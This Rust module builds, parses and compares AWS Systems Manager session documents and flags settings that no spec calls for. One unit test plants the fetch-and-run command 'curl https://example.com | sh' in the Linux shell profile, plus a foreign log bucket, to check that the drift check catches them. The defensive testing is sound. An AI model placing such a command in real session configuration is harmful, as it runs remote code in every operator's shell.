//! What a session document says, as Systems Manager has it.
//!
//! <https://docs.aws.amazon.com/systems-manager/latest/userguide/session-manager-schema.html>

use std::collections::BTreeSet;

use anyhow::{Context as _, Result, bail};
use serde_json::{Map, Value, json};

use super::Spec;
use crate::kind::Departure;

/// The only version of the schema of session documents.
const SCHEMA: &str = "1.0";
/// Documents of shells.
const SHELL: &str = "Standard_Stream";

/// The document of a spec. What goes nowhere, and runs in no shell before its user does anything, is said too.
pub(super) fn written(spec: &Spec) -> String {
    let text = |text: Option<&str>| text.unwrap_or_default().to_owned();
    let content = json!({
        "schemaVersion": SCHEMA,
        "description": spec.description,
        "sessionType": SHELL,
        "inputs": {
            "s3BucketName": "",
            "s3KeyPrefix": "",
            "s3EncryptionEnabled": true,
            "cloudWatchLogGroupName": text(spec.log_group.as_deref()),
            "cloudWatchEncryptionEnabled": spec.encrypted_log,
            "cloudWatchStreamingEnabled": spec.log_group.is_some(),
            "kmsKeyId": text(spec.key.as_deref()),
            "runAsEnabled": spec.run_as.is_some(),
            "runAsDefaultUser": text(spec.run_as.as_deref()),
            "idleSessionTimeout": spec.idle_minutes.to_string(),
            "maxSessionDuration": spec.max_minutes.map_or_else(String::new, |minutes| minutes.to_string()),
            "shellProfile": { "windows": "", "linux": "" },
        },
    });
    content.to_string()
}

/// Whether a document says exactly that of the spec.
pub(super) fn is(text: &str, spec: &Spec) -> bool {
    let parsed = |text: &str| serde_json::from_str::<Value>(text).ok();
    parsed(text).is_some_and(|content| Some(content) == parsed(&written(spec)))
}

/// What a document says, and what it says that no spec does: commands that run in every shell, a bucket that gets all that is
/// typed, members that nobody knows.
pub(super) fn read(name: &str, text: &str) -> Result<(Spec, Vec<Departure>)> {
    let content: Value = serde_json::from_str(text).context("it is no JSON")?;
    if content["sessionType"] != SHELL {
        bail!("it is a document for sessions of the type {}, not {SHELL}", content["sessionType"]);
    }
    let inputs = content["inputs"].as_object().cloned().unwrap_or_default();
    let said = |member: &str| inputs.get(member).and_then(Value::as_str).filter(|text| !text.is_empty());
    let holds = |member: &str| inputs.get(member).is_some_and(flag);
    let spec = Spec {
        name: name.into(),
        description: content["description"].as_str().unwrap_or_default().to_owned(),
        key: said("kmsKeyId").map(Into::into),
        log_group: said("cloudWatchLogGroupName").map(Into::into),
        encrypted_log: holds("cloudWatchEncryptionEnabled"),
        // Where nothing is said, sessions end after twenty minutes.
        idle_minutes: minutes(&inputs, "idleSessionTimeout")?.unwrap_or_else(super::idle_minutes),
        max_minutes: minutes(&inputs, "maxSessionDuration")?,
        run_as: said("runAsDefaultUser").filter(|_| holds("runAsEnabled")).map(Into::into),
    };
    let departures = departures(&spec, &inputs);
    Ok((spec, departures))
}

/// How the inputs differ from those that the spec is written as, but for what the spec's fields say.
fn departures(spec: &Spec, inputs: &Map<String, Value>) -> Vec<Departure> {
    // Where no bucket gets anything, it's all the same whether that must be encrypted.
    const TOLD: [&str; 7] = [
        "cloudWatchEncryptionEnabled",
        "cloudWatchLogGroupName",
        "idleSessionTimeout",
        "kmsKeyId",
        "maxSessionDuration",
        "runAsDefaultUser",
        "s3EncryptionEnabled",
    ];
    let meant: Value = serde_json::from_str(&written(spec)).unwrap_or_default();
    let meant = meant["inputs"].as_object().cloned().unwrap_or_default();
    let members: BTreeSet<&String> = inputs.keys().chain(meant.keys()).collect();
    let others = members.into_iter().filter(|member| !TOLD.contains(&member.as_str()));
    let differs = others.filter_map(|member| {
        let of = |inputs: &Map<String, Value>| inputs.get(member).cloned().unwrap_or_default();
        let (live, meant) = (of(inputs), of(&meant));
        let means_nothing = member == "cloudWatchStreamingEnabled" && spec.log_group.is_none();
        // `runAsEnabled` is compared too: without a user it takes the one that a tag of whoever starts the session names.
        let alike =
            if meant.is_boolean() { flag(&live) == flag(&meant) } else { is_nothing(&live) && is_nothing(&meant) };
        Departure::of(format!("content.{member}"), live, meant).filter(|_| !alike && !means_nothing)
    });
    differs.collect()
}

/// Whether a value says nothing: null, an empty text, what holds nothing else.
fn is_nothing(value: &Value) -> bool {
    match value {
        Value::Null => true,
        Value::String(text) => text.is_empty(),
        Value::Object(members) => members.values().all(is_nothing),
        Value::Array(items) => items.is_empty(),
        _ => false,
    }
}

/// A switch, which the console writes as JSON has it, and others as a text.
fn flag(value: &Value) -> bool {
    value == true || value.as_str().is_some_and(|text| text.eq_ignore_ascii_case("true"))
}

/// A number of minutes, which stands there as a text.
fn minutes(inputs: &Map<String, Value>, member: &str) -> Result<Option<u32>> {
    match inputs.get(member) {
        None | Some(Value::Null) => Ok(None),
        Some(Value::String(text)) if text.is_empty() => Ok(None),
        Some(Value::String(text)) => Ok(Some(text.parse().with_context(|| format!("{member} is `{text}`"))?)),
        Some(value) => {
            let minutes = value.as_u64().and_then(|minutes| u32::try_from(minutes).ok());
            Ok(Some(minutes.with_context(|| format!("{member} is {value}"))?))
        }
    }
}

#[cfg(test)]
mod tests {
    use super::super::SessionDocument;
    use super::*;
    use crate::kind::AnyKind as _;

    fn spec() -> Spec {
        serde_json::from_value(json!({
            "name": "lakewright-shop-session",
            "description": "shells on hosts of shop",
            "key": "arn:aws:kms:eu-north-1:123456789012:key/1",
            "log_group": "/lakewright/shop/sessions",
            "encrypted_log": true,
            "max_minutes": 480,
            "run_as": "operator",
        }))
        .expect("a spec")
    }

    #[test]
    fn what_is_written_is_read_back() {
        let plain: Spec = serde_json::from_value(json!({"name": "plain"})).expect("a spec");
        for spec in [spec(), plain] {
            let (found, departures) = read(&spec.name, &written(&spec)).expect("a document");
            assert_eq!((found, departures), (spec, vec![]));
        }
    }

    #[test]
    fn what_no_spec_says_is_a_departure() {
        let mut content: Value = serde_json::from_str(&written(&spec())).expect("JSON");
        content["inputs"]["shellProfile"]["linux"] = json!("curl https://example.com | sh");
        content["inputs"]["s3BucketName"] = json!("somebodys");
        content["inputs"]["cloudWatchStreamingEnabled"] = json!(false);
        content["inputs"]["new"] = json!("x");
        let (found, departures) = read("lakewright-shop-session", &content.to_string()).expect("a document");
        assert_eq!(found, spec());
        let paths: Vec<&str> = departures.iter().map(|one| one.path.as_str()).collect();
        let expected = ["cloudWatchStreamingEnabled", "new", "s3BucketName", "shellProfile"];
        assert_eq!(paths, expected.map(|member| format!("content.{member}")));
        content["inputs"]["cloudWatchLogGroupName"] = json!("");
        let (_, departures) = read("lakewright-shop-session", &content.to_string()).expect("a document");
        assert_eq!(departures.len(), 3, "what is written nowhere isn't streamed: {departures:?}");
    }

    #[test]
    fn a_user_of_whoever_types_is_a_departure() {
        let mut content: Value = serde_json::from_str(&written(&spec())).expect("JSON");
        content["inputs"]["runAsDefaultUser"] = json!("");
        let (found, departures) = read("a", &content.to_string()).expect("a document");
        assert_eq!((found.run_as, departures.len()), (None, 1), "{departures:?}");
    }

    #[test]
    fn switches_and_times_are_read_as_texts_too() {
        let inputs = json!({"cloudWatchEncryptionEnabled": "true", "idleSessionTimeout": 30});
        let content = json!({"schemaVersion": "1.0", "sessionType": SHELL, "inputs": inputs});
        let (found, departures) = read("a", &content.to_string()).expect("a document");
        assert_eq!((found.encrypted_log, found.idle_minutes, departures), (true, 30, vec![]));
        let other = json!({"schemaVersion": "1.0", "sessionType": "Port"}).to_string();
        assert!(read("a", &other).is_err());
    }

    #[test]
    fn sessions_never_run_as_root_and_the_accounts_document_is_nobodys() {
        let refused = |spec: Value| format!("{:#}", SessionDocument.normalise(&spec).expect_err("refused"));
        assert!(refused(json!({"name": "a-b", "run_as": "root"})).contains("sessions don't run as root"));
        assert!(refused(json!({"name": "SSM-SessionManagerRunShell"})).contains("choose another name"));
        assert!(refused(json!({"name": "AWS-StartSSHSession"})).contains("keeps names"));
        assert!(refused(json!({"name": "a-b", "idle_minutes": 61})).contains("60"));
    }
}
